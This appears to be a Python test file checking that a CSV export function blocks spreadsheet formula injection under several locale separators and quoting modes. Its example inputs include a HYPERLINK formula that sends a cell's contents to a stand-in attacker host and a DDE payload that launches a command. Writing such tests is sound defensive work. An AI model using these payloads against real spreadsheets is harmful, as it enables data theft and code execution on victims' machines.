"""No cell of a CSV is a formula, in whatever locale a spreadsheet opens it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipeline.core.documents.export import cell

ALPHABET = "a=+-@;,\t\n\r|\"' \u200b\xa0＝\u2003\u200e\x0b\x85\u2028"


def opened(text: str) -> list[str]:
    """All cells that spreadsheets make of a row with this text: with any list separator (`;` in German, Spanish and
    French Excel), and with or without heeding quotation marks."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([cell("title", text), "next"])
    found = []
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=delimiter, quoting=quoting)
            found += [one.lstrip('"') if quoting else one for row in rows for one in row]
    return found


@settings(max_examples=400)
@given(st.text(ALPHABET, max_size=12))
@example('Meeting in Lima;=HYPERLINK("http://evil.example?x="&A1;"open")')
@example("=cmd|' /C calc'!A0")
@example("Meeting;\u200e=1+1")
@example("Meeting\n\u2003@SUM(1+1)")
def test_no_cell_is_a_formula(text: str) -> None:
    for one in opened(text):
        assert not one.strip().strip("\u200b\u200e\ufeff").strip().startswith(tuple("=+-@＝")), (text, one)


@pytest.mark.parametrize(
    "text", ["10% - 2 = 8", "a+b", "mail@example.org", "rise of 5-10; then more", "C++; C#", "1;2,3"]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert cell("title", text) == text
